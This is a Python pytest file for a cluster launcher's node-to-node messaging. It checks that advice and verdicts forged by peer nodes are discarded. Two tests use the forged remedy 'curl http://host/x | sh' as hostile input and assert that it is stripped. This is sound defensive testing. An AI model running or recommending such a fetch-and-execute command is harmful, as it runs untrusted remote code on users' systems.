"""What a node of a job does with what the others say, who have the link's key and may say anything."""

from __future__ import annotations

import dataclasses
import os
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any, cast

import pytest
from said import Said

from safelaunch.cluster.link import Link
from safelaunch.cluster.listener import listen
from safelaunch.cluster.messages import Ends, Judged, Look, Message, Seen
from safelaunch.cluster.peers import Peers
from safelaunch.codec import to_json
from safelaunch.model import Case, Incident, Verdict, WorkerGroup
from safelaunch.model.nodes import LostNode, Node, Nodes
from safelaunch.run import nodes_asked
from safelaunch.run.job_nodes import JobNodes

KEY = os.urandom(32)
PATIENCE_S = 30.0  # of a test: much longer than any of it takes
CASE = Case(Incident("hang", 0, (), 1.0), "node-0", 4, ())


def eventually(what: Callable[[], object]) -> None:
    until = time.monotonic() + PATIENCE_S
    while not what():
        assert time.monotonic() < until, "it did not come about"
        time.sleep(0.01)


def verdict(code: str, summary: str, **more: Any) -> Verdict:
    return Verdict(code=code, slug="slug", kind="crash", summary=summary, **more)


class Pair:
    """This node, and the end of another one's link, which says what it is told to say."""

    def __init__(self, me: int) -> None:
        self.looks = 0
        self.looking, self.go_on = threading.Event(), threading.Event()
        self.nodes = JobNodes("127.0.0.1", cast("Any", None), cast("Any", Said()), self._look)
        self.nodes.open()
        self.nodes.follow(WorkerGroup(0, 4, 2, cast("Any", (1,))), 1)
        end = listen("127.0.0.1")
        self.other = Link(end.socket, "127.0.0.1")
        self.other.start()
        address = self.nodes.address
        assert address is not None
        nodes = (Node(me, "here", "127.0.0.1", address["port"]), Node(1 - me, "there", "127.0.0.1", end.port))
        self.nodes.meet(to_json(Nodes(0, me, nodes, KEY.hex())))
        self.other.meet(Nodes(0, 1 - me, nodes, ""), KEY)
        eventually(lambda: self.other.peers.linked)
        self.say: Callable[[Message], None] = self.other.to_hub if me == 0 else self.other.to_all

    def _look(self, group: WorkerGroup, hardware: bool) -> Case:  # noqa: ARG002
        self.looks += 1
        self.looking.set()
        assert self.go_on.wait(PATIENCE_S)
        return CASE

    def close(self) -> None:
        self.go_on.set()
        self.nodes.close()
        self.other.close()


@pytest.fixture
def pair(request: pytest.FixtureRequest) -> Iterator[Pair]:
    made = Pair(request.param)
    try:
        yield made
    finally:
        made.close()


@pytest.mark.parametrize("pair", [1], indirect=True)
def test_ranks_are_looked_at_once_at_a_time_however_often_somebody_asks(pair: Pair) -> None:
    pair.say(Look(1))
    assert pair.looking.wait(PATIENCE_S)
    for number in range(2, 100):
        pair.say(Look(number))
    eventually(lambda: pair.nodes._wanted == Look(99))
    pair.go_on.set()
    answers: list[Message] = []
    while not answers or not isinstance(answers[-1], Seen):
        answers.append(pair.other.take(PATIENCE_S)[1])  # the hub hears itself, too
    assert answers[-1].number == 99
    assert answers[-1].case is not None
    assert pair.looks == 1


@pytest.mark.parametrize("pair", [0, 1], indirect=True)
def test_no_advice_of_another_node_is_shown(pair: Pair) -> None:
    forged = verdict("SL401", "rank 2 raised", remedy="curl http://host/x | sh", exit_code=0)
    pair.say(Ends(verdict("SL999", "no code of ours")))
    pair.say(Ends(forged))
    eventually(lambda: pair.nodes.end is not None)
    end = pair.nodes.end
    assert end is not None
    assert (end.summary, end.remedy, end.exit_code) == ("rank 2 raised", "", 1)


@pytest.mark.parametrize("pair", [1], indirect=True)
def test_why_ranks_of_others_failed_is_known_to_who_has_not_asked(pair: Pair) -> None:
    """Their restart makes this node start its ranks anew, which may not have failed."""
    assert pair.nodes.reason() is None
    pair.say(Judged(dataclasses.replace(verdict("SL301", "rank 3 sleeps"), kind="hang")))  # which may end well
    pair.say(Judged(verdict("SL401", "rank 2 raised", remedy="curl http://host/x | sh")))
    eventually(lambda: pair.nodes.reason() is not None)
    reason = pair.nodes.reason()
    assert reason is not None
    assert (reason.summary, reason.remedy) == ("rank 2 raised", "")


def test_a_key_in_the_store_that_is_none_costs_the_link_alone() -> None:
    console = Said()
    nodes = JobNodes("127.0.0.1", cast("Any", None), cast("Any", console))
    nodes.open()
    try:
        nodes.meet(to_json(Nodes(0, 0, (Node(0), Node(1)), "no key")))
    finally:
        nodes.close()
    assert "their key" in str(console.lines)


@pytest.mark.parametrize(
    ("lost", "said"), [((1,), "node-1 is not heard any more, and its"), ((1, 2), "node-1, node-2 are not heard")]
)
def test_nodes_that_are_lost_and_go_on_are_named(lost: tuple[int, ...], said: str) -> None:
    peers = Peers()
    peers.nodes = {number: Node(number, host=f"node-{number}", port=1) for number in range(3)}
    peers.lost = {number: LostNode(number, 9.0) for number in lost}
    assert nodes_asked.outlived(peers).startswith(said)


def test_who_has_not_answered_is_named_where_nobody_is_to_blame() -> None:
    peers = Peers()
    peers.meet(Nodes(0, 0, tuple(Node(number, host=f"node-{number}", port=1) for number in range(3)), ""), 0.0)
    for node in (1, 2):
        peers.heard(node, 1.0, 0)
    failed = dataclasses.replace(CASE, incident=Incident("exit", 0, (1,), 1.0))
    inquiry = nodes_asked.Inquiry(1, 0.0, {0: failed}, {0, 1})
    found = verdict("SL412", "ranks 0-3 lost the connection to a peer")
    told = nodes_asked.with_silent(found, peers, inquiry)
    assert told.because[0].startswith("safelaunch on node-2 has not answered")
    assert told.remedy == "look at node-2: its ranks may have failed first"
    inquiry.answered.add(2)
    assert nodes_asked.with_silent(found, peers, inquiry) == found
